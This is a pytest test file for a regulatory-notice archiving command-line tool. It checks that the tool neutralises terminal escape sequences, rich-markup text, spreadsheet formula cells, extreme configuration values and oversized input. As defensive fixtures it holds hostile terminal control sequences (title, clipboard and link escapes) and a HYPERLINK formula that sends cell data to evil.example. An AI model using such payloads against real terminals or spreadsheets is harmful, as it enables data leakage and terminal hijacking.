"""What the command line guards against (issue #13): archived text that drives the terminal,
text read as markup, formula cells, configuration that passes and then crashes, unbounded
input. Each test feeds the hostile thing through the real command and measures the output."""

from __future__ import annotations

import io
import json
import tracemalloc
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from cli import main
from cli.terminal import inert, inert_json
from crawler.cleaning import clean_title, html_to_text
from storage.archive import record_notice
from storage.db import open_archive, session_factory
from tests.query_fixtures import NoticeSpec, add_sources, fetched, record_findings

# What a page can make a terminal do: set its title (OSC 0), write the clipboard (OSC 52),
# plant a link (OSC 8), clear the screen (CSI 2J, and the one-byte C1 CSI), ring the bell,
# reverse the order text is shown in (RLO); and text that reads as rich markup or emoji codes.
HOSTILE_TITLE = (
    "\x1b]0;pwned\x07Notice \x1b]52;c;ZWNobyBwd25lZA==\x07"
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\ \x1b[2J\x9b2J \u202eevil\u202c"
    " [bold]x[/] [/x] [sources] :warning:"
)
HOSTILE_TEXT = (
    "2023年，全国网信系统\x1b[31m依法约谈网站10646家\x1b[0m，\x9d52;c;eA==\x07"
    "下架违法移动应用程序259款。[/x] [[alerts]]"
)
SOURCE_NAMED_LIKE_MARKUP = """
[sources.markup-test]
name = "[/x] [sources] :warning:"
base_url = "https://regulator.example/"
list = { url = "/news", items = "li", link = "a::attr(href)" }
"""
UNSAFE = ("\x1b", "\x07", "\x9b", "\x9d", "\u202e", "\u202c")


@pytest.fixture(scope="module", name="hostile_archive")
def hostile_archive_fixture(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, int]:
    """An archive holding a notice with escapes, as versions before the cleaning kept them."""
    url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'archive.db'}"
    engine = open_archive(url)
    spec = NoticeSpec("hostile", "cac-test", HOSTILE_TITLE, HOSTILE_TEXT,
                      datetime(2024, 1, 31, 10, 0, tzinfo=UTC), "zh")
    with session_factory(engine)() as session:
        add_sources(session)
        outcome = record_notice(session, fetched(spec, spec.text, datetime(2024, 2, 1, tzinfo=UTC)))
        assert outcome.version is not None
        record_findings(session, outcome.version, "cac-test")
        session.commit()
    engine.dispose()
    return url, outcome.notice_id


def regwatch(*arguments: str, database_url: str | None = None,
             config: Path | None = None, stdin: bytes | None = None) -> Result:
    options = []
    if database_url:
        options += ["--database-url", database_url]
    if config:
        options += ["--config", str(config)]
    return CliRunner().invoke(main, [*options, *arguments], input=stdin)


def assert_inert(output: str) -> None:
    found = [repr(c) for c in UNSAFE if c in output]
    assert not found, f"raw terminal controls {found} in {output!r}"


# --- 3. terminal escapes -------------------------------------------------------------------------


def test_archived_escape_sequences_reach_no_terminal(hostile_archive: tuple[str, int]) -> None:
    url, notice_id = hostile_archive
    for arguments in (("show", str(notice_id)), ("search", "Notice"), ("events",),
                      ("figures",), ("diff", str(notice_id), "--from", "1", "--to", "1")):
        result = regwatch(*arguments, database_url=url)
        assert_inert(result.output)
        if arguments[0] != "diff":
            assert result.exit_code == 0, (arguments, result.output)
    shown = regwatch("show", str(notice_id), database_url=url).output
    # The text is still there, its controls shown as visible characters.
    assert "␛]0;pwned␇Notice" in shown and "\ufffdevil" in shown
    assert "依法约谈网站10646家" in shown


def test_archived_escapes_in_json_are_escaped_and_keep_their_value(
    hostile_archive: tuple[str, int],
) -> None:
    url, notice_id = hostile_archive
    for arguments in (("show", str(notice_id), "--json"), ("search", "Notice", "--json"),
                      ("events", "--json")):
        result = regwatch(*arguments, database_url=url)
        assert result.exit_code == 0, result.output
        assert_inert(result.output)
        json.loads(result.output)
    body = json.loads(regwatch("show", str(notice_id), "--json", database_url=url).output)
    assert body["version"]["title"] == HOSTILE_TITLE


def test_inert_keeps_length_newlines_and_tabs() -> None:
    text = "a\tb\nc" + HOSTILE_TITLE + HOSTILE_TEXT
    shown = inert(text)
    assert len(shown) == len(text) and inert(shown) == shown
    assert shown.startswith("a\tb\nc")
    assert_inert(shown)
    escaped = inert_json(json.dumps(text, ensure_ascii=False))
    assert_inert(escaped) and json.loads(escaped) == text


def test_cleaning_drops_control_characters_before_archiving() -> None:
    assert_inert(clean_title(HOSTILE_TITLE).replace("\u202e", "").replace("\u202c", ""))
    assert clean_title("\x1b]0;pwned\x07Notice\x9b2J") == "]0;pwnedNotice2J"
    assert html_to_text("<p>a\x1b[2Jb\tc</p><p>\x07</p><p>d</p>") == "a[2Jb c\nd"


# --- 6. messages read as markup --------------------------------------------------------------


def test_paths_and_values_in_messages_print_as_written(tmp_path: Path) -> None:
    missing = tmp_path / "[/x] [bold]" / "regwatch.toml"
    result = regwatch("sources", config=missing)
    assert result.exit_code == 3, result.output
    assert "[/x] [bold]" in " ".join(result.output.split())

    named = tmp_path / "named.toml"
    named.write_text(SOURCE_NAMED_LIKE_MARKUP, encoding="utf-8")
    result = regwatch("sources", config=named, database_url=f"sqlite:///{tmp_path / 'a.db'}")
    assert result.exit_code == 0, result.output
    assert all(word in result.output for word in ("[/x]", "[sources]", ":warning:"))

    empty = tmp_path / "regwatch.toml"
    empty.write_text("", encoding="utf-8")
    result = regwatch("alerts", "test", config=empty)
    assert result.exit_code == 0, result.output
    assert "([[alerts]] in regwatch.toml)" in result.output


def test_archived_markup_prints_as_written(hostile_archive: tuple[str, int]) -> None:
    url, notice_id = hostile_archive
    for arguments in (("show", str(notice_id)), ("events",), ("search", "Notice")):
        output = regwatch(*arguments, database_url=url).output
        assert all(word in output for word in ("[bold]x[/]", "[/x]", "[sources]", ":warning:")), (
            arguments, output)
    shown = regwatch("show", str(notice_id), database_url=url).output
    assert "[/x] [[alerts]]" in shown


# --- 4. formula cells ----------------------------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.fixture(scope="module", name="formula_archive")
def formula_archive_fixture(tmp_path_factory: pytest.TempPathFactory) -> str:
    url = f"sqlite:///{tmp_path_factory.mktemp('formula') / 'archive.db'}"
    engine = open_archive(url)
    spec = NoticeSpec("formula", "cac-test", FORMULA_TITLE,
                      "2023年，全国网信系统依法约谈网站10646家。",
                      datetime(2024, 1, 31, 10, 0, tzinfo=UTC), "zh")
    with session_factory(engine)() as session:
        add_sources(session)
        outcome = record_notice(session, fetched(spec, spec.text, datetime(2024, 2, 1, tzinfo=UTC)))
        assert outcome.version is not None
        record_findings(session, outcome.version, "cac-test")
        session.commit()
    engine.dispose()
    return url


def formula_cells(output: str) -> list[str]:
    import csv
    import io
    import re

    number = re.compile(r"-?\d+(\.\d+)?")
    return [cell for row in csv.reader(io.StringIO(output)) for cell in row
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not number.fullmatch(cell)]


def test_every_csv_regwatch_writes_neutralises_formulas(formula_archive: str) -> None:
    for arguments in (("figures", "--csv"), ("export", "--format", "csv"),
                      ("export", "--what", "figures", "--format", "csv"),
                      ("export", "--what", "events", "--format", "csv")):
        result = CliRunner().invoke(main, ["--database-url", formula_archive, *arguments])
        assert result.exit_code == 0, (arguments, result.output)
        if "figures" not in arguments[1:]:  # figure rows carry no title
            assert "HYPERLINK" in result.stdout, arguments
        assert formula_cells(result.stdout) == [], arguments
    figures = CliRunner().invoke(main, ["--database-url", formula_archive, "figures", "--csv"])
    assert "'" + FORMULA_TITLE in figures.stdout.replace('""', '"')


def test_csv_is_written_by_one_writer() -> None:
    root = Path(__file__).resolve().parent.parent
    writers = sorted(
        str(path.relative_to(root))
        for folder in ("cli", "config", "crawler", "storage", "diffing", "alerts", "web")
        for path in (root / folder).rglob("*.py")
        if "csv.writer" in (text := path.read_text(encoding="utf-8")) or "csv.DictWriter" in text
    ) + [name for name in ("scheduler.py",) if "csv." in (root / name).read_text("utf-8")]
    assert writers == ["cli/csv_output.py"]


# --- 7. unbounded input --------------------------------------------------------------------------


class CountingInput(io.RawIOBase):
    """Standard input that never ends (up to ``size`` bytes), counting what is read of it."""

    def __init__(self, size: int) -> None:
        self.size = size
        self.given = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        count = min(len(buffer), self.size - self.given)
        buffer[:count] = b"x" * count
        self.given += count
        return count


def test_extract_refuses_input_beyond_the_limit_without_reading_it_all(tmp_path: Path) -> None:
    from cli.extract import MAX_INPUT_BYTES
    from crawler.settings import DOWNLOAD_MAXSIZE

    assert MAX_INPUT_BYTES == DOWNLOAD_MAXSIZE
    endless = CountingInput(size=4 * MAX_INPUT_BYTES)
    tracemalloc.start()
    result = CliRunner().invoke(main, ["extract", "-"], input=io.BufferedReader(endless))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert result.exit_code == 2, result.output
    assert "larger than 32 MiB" in result.output
    # At most the limit and one byte read (plus a buffer's worth), and held once.
    assert endless.given <= MAX_INPUT_BYTES + 1 + io.DEFAULT_BUFFER_SIZE
    assert peak < 2.5 * MAX_INPUT_BYTES, peak

    big = tmp_path / "big.html"
    with big.open("wb") as file:
        file.truncate(MAX_INPUT_BYTES + 1)  # sparse: its size is refused before any read
    tracemalloc.start()
    result = CliRunner().invoke(main, ["extract", str(big)])
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert result.exit_code == 2 and "larger than 32 MiB" in result.output, result.output
    assert peak < 2**20, peak


def test_extract_reads_input_under_the_limit(tmp_path: Path) -> None:
    text = tmp_path / "notice.txt"
    text.write_text("2023年，全国网信系统依法约谈网站10646家。", encoding="utf-8")
    result = CliRunner().invoke(main, ["extract", str(text), "--json"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["figures"][0]["value"] in (10646, "10646")


# --- 5. configuration that passes and then crashes -----------------------------------------------

A_SOURCE = """[sources.regulator]
name = "A regulator"
base_url = "https://regulator.example/"
list = { url = "/news", items = "li", link = "a::attr(href)" }
"""


def config_file(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "regwatch.toml"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize(("added", "table"), [
    ("interval = inf", None),
    ("interval = nan", None),
    ("interval = -inf", None),
    ('interval = "99999999d"', None),
    ("interval = 1e300", None),
    ("revisit_after = 1e12", None),
    ("delay = nan", None),
    ('delay = "30d"', None),
    ("timeout = inf", None),
    ("timeout = 1e9", None),
    ("max_notices = 100000000000000000000", None),
    ("crawl_timeout = inf", "[service]"),
    ("stop_grace = nan", "[service]"),
    ('misfire_grace_time = "100000w"', "[service]"),
    ("parallel_crawls = 100000", "[service]"),
    ("parallel_crawls = 0", "[service]"),
    ('deliver_every = "inf"', "[service]"),
    ("deliver_every = nan", "[service]"),
    ("unhealthy_after = 1e400", "[service]"),
    ("min_change_percent = nan", "[[alerts]]"),
    ("port = inf", "[web]"),
])
def test_numbers_out_of_range_are_refused_at_load_with_file_and_line(
    tmp_path: Path, added: str, table: str | None,
) -> None:
    text = A_SOURCE + (f"{added}\n" if table is None else f"\n{table}\n{added}\n")
    path = config_file(tmp_path, text)
    line = text.splitlines().index(added) + 1
    database = f"sqlite:///{tmp_path / 'archive.db'}"
    result = regwatch("serve", "--once", "--no-web", config=path, database_url=database)
    assert result.exit_code == 3, result.output
    assert f"{path}:{line}:" in " ".join(result.output.split()).replace(" ", ""), result.output
    assert "Traceback" not in result.output


def test_list_page_counts_and_web_port_are_bounded(tmp_path: Path) -> None:
    path = config_file(tmp_path, A_SOURCE.replace('link = "a::attr(href)" }',
                                                  'link = "a::attr(href)", max_pages = 10000000 }'))
    result = regwatch("sources", config=path)
    assert result.exit_code == 3 and f"{path}:4:" in result.output and "max_pages" in result.output
    path = config_file(tmp_path, A_SOURCE + "\n[web]\nport = 70000\n")
    result = regwatch("web", config=path, database_url=f"sqlite:///{tmp_path / 'a.db'}")
    assert result.exit_code == 3 and f"{path}:7:" in result.output, result.output


def test_cron_and_interval_together_are_refused(tmp_path: Path) -> None:
    path = config_file(tmp_path, A_SOURCE + 'cron = "0 9 * * *"\ninterval = "2h"\n')
    result = regwatch("sources", config=path)
    assert result.exit_code == 3, result.output
    assert f"{path}:6:" in result.output and "not both" in result.output
    # A built-in source's interval gives way to the cron a user sets for it.
    path = config_file(tmp_path, '[sources.cac-wxfb]\ncron = "0 9 * * 1-5"\n')
    result = regwatch("sources", "--json", config=path,
                      database_url=f"sqlite:///{tmp_path / 'a.db'}")
    assert result.exit_code == 0, result.output
    schedules = {row["id"]: row["schedule"] for row in json.loads(result.output)["sources"]}
    assert schedules["cac-wxfb"] == "cron 0 9 * * 1-5"


@pytest.mark.parametrize(("text", "line", "name"), [
    ("[servce]\nparallel_crawls = 2\n", 5, "servce"),
    ("intervall = 60\n", 5, "intervall"),
    ("[[alert]]\nname = 'x'\n", 5, "alert"),
])
def test_unknown_top_level_tables_and_keys_are_refused(
    tmp_path: Path, text: str, line: int, name: str,
) -> None:
    path = config_file(tmp_path, A_SOURCE + text)
    result = regwatch("sources", config=path)
    assert result.exit_code == 3, result.output
    assert f"{path}:{line}:" in result.output and repr(name) in result.output


def test_every_section_regwatch_reads_is_a_known_table() -> None:
    import re

    from config.loading import TOP_LEVEL_TABLES

    root = Path(__file__).resolve().parent.parent
    read = {
        name for path in root.rglob("*.py") if ".venv" not in path.parts
        for name in re.findall(r"config\.raw\.get\(\"(\w+)\"", path.read_text(encoding="utf-8"))
    }
    assert read and read | {"sources"} == set(TOP_LEVEL_TABLES)


def test_no_command_returns_from_inside_a_try_with_finally() -> None:
    """`serve` once returned from its start-up `try` on a config error: the `finally` ran and
    the exit code after it was skipped (exit 0 instead of 3). No command may do that again."""
    import ast

    root = Path(__file__).resolve().parent.parent / "cli"
    found = []
    for path in sorted(root.glob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Try) and node.finalbody:
                for statement in node.body + [h for handler in node.handlers
                                              for h in handler.body]:
                    found += [f"{path.name}:{inner.lineno}" for inner in ast.walk(statement)
                              if isinstance(inner, ast.Return)]
    assert found == []
